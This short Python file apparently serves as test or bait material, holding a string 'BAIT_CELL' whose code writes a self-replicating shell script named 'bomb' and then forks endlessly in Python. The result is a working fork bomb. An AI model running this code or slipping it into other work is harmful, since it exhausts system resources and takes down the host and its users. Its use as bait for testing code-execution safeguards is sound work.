"""Forks as fast as it can, in the shell and in Python, each child again, without a pause."""

BAIT_CELL = r"""
import os, subprocess

open("bomb", "w").write("sh bomb & sh bomb & sh bomb &\nsh bomb")
os.fork()
reached()
subprocess.Popen(["sh", "bomb"])
while True:
    try:
        os.fork()
    except OSError:
        pass
"""
